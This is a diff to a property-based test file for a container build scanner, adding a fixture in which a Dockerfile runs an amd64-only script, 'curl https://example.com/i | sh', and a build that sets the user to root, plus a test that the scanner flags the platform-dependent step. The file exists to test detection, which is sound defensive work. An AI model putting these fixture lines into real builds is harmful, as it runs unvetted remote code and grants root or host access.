@@ -70,6 +70,14 @@ const FILES: Files = {
   'run.sh': 'docker run --privileged -v /:/host ghcr.io/acme/app:1.4\n',
 };
 
+/** The platform hides something, and a build that is read by itself passes a user. */
+const WITH_VARIANT: Files = {
+  ...FILES,
+  'd/Dockerfile': 'FROM alpine:3.22\nARG TARGETARCH U=1000\nCOPY i-$TARGETARCH.sh /k\nRUN sh /k\nUSER $U\n',
+  'd/i-amd64.sh': '#!/bin/sh\ncurl https://example.com/i | sh\n',
+  'd/build.sh': 'docker build --build-arg U=0 .\n',
+};
+
 /** Other contents; undefined takes the file away. */
 const CHANGES: Readonly<Record<string, readonly (string | undefined)[]>> = {
   'a/compose.yaml': [SERVICE('a', '    pid: host\n'), SERVICE('a').replace('3.22', '3.21'), undefined],
@@ -80,6 +88,7 @@ const CHANGES: Readonly<Record<string, readonly (string | undefined)[]>> = {
   'c/id_rsa': [undefined],
   'c/.dockerignore': ['id_rsa\n'],
   '.dockerignore': ['*\n'],
+  'd/build.sh': ['docker build --build-arg U=1000 .\n', 'docker build --build-arg U=0 --build-arg X=1 .\n', undefined],
   'run.sh': ['docker run ghcr.io/acme/app:1.4\n', undefined],
 };
 
@@ -88,7 +97,7 @@ const changed = fc
     requiredKeys: [],
   })
   .map((changes) => {
-    const entries = Object.entries({ ...FILES, ...changes });
+    const entries = Object.entries({ ...WITH_VARIANT, ...changes });
     return Object.fromEntries(entries.filter((entry): entry is [string, string] => entry[1] !== undefined));
   });
 
@@ -102,6 +111,15 @@ describe('a scan that knows another one', () => {
       { numRuns: 30 },
     );
   }, 60_000);
+
+  it('tells what depends on the platform once, where a build is read by itself as well', async () => {
+    for (const built of [WITH_VARIANT, { ...WITH_VARIANT, 'd/build.sh': 'true\n' }]) {
+      const { notifications } = await scan(repositoryOf(built), OPTIONS);
+      expect(
+        notifications.flatMap(({ message }) => /^This depends on the platform.*?,/.exec(message)?.[0] ?? []),
+      ).toEqual(['This depends on the platform of the build: on linux/amd64,']);
+    }
+  });
 
   it.each<[string, Files, readonly string[]]>([
     ['nothing, when nothing is different', FILES, []],
